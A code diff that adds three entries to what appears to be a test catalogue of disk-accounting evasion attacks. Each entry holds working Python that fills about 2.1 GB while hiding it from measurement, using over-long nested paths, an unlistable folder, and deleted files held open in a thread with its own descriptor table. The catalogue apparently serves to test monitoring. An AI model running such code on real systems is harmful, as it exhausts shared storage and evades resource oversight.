@@ -135,6 +135,67 @@ def _():
         achieved=_FILLED,
     ),
     Attack(
+        "18j",
+        "files deeper than any path",
+        "Fills folders whose paths are longer than the kernel takes, so that no path leads to the files.",
+        """
+@attempt("2.1 GB in deep folders")
+def _():
+    for _ in range(25):
+        os.mkdir("d" * 200)
+        os.chdir("d" * 200)
+    for number in range(120):
+        with open(f"big-{number}", "wb") as file:
+            os.posix_fallocate(file.fileno(), 0, 18 * 2**20)
+    time.sleep(2)
+    return f"{120 * 18} MB"
+""",
+        reason=_REASON,
+        achieved=_FILLED,
+    ),
+    Attack(
+        "18k",
+        "files in a folder that nobody may list",
+        "Makes a folder that may be entered and not read, and fills it.",
+        """
+@attempt("2.1 GB in a closed folder")
+def _():
+    os.mkdir("closed", 0o300)
+    for number in range(120):
+        with open(f"closed/big-{number}", "wb") as file:
+            os.posix_fallocate(file.fileno(), 0, 18 * 2**20)
+    time.sleep(2)
+    return f"{120 * 18} MB"
+""",
+        reason=_REASON,
+        achieved=_FILLED,
+        needs_pod="a host that is not root must open the folder to count",
+    ),
+    Attack(
+        "18l",
+        "deleted files that one thread has open",
+        "Gives a thread a table of descriptors of its own, which those who look at the process do not see.",
+        """
+def fill():
+    @attempt("2.1 GB in files of one thread")
+    def _():
+        call(436, 2**20, 2**20, 2)
+        held = []
+        for number in range(120):
+            held.append(os.open("passing", os.O_CREAT | os.O_WRONLY))
+            os.unlink("passing")
+            os.posix_fallocate(held[-1], 0, 18 * 2**20)
+        time.sleep(3)
+        return f"{len(held) * 18} MB"
+
+worker = threading.Thread(target=fill)
+worker.start()
+worker.join()
+""",
+        reason=_REASON,
+        achieved=_FILLED,
+    ),
+    Attack(
         "18g",
         "folder deeper than any stack",
         "Makes folders in folders, 1,500 deep, for those who clean up after it.",
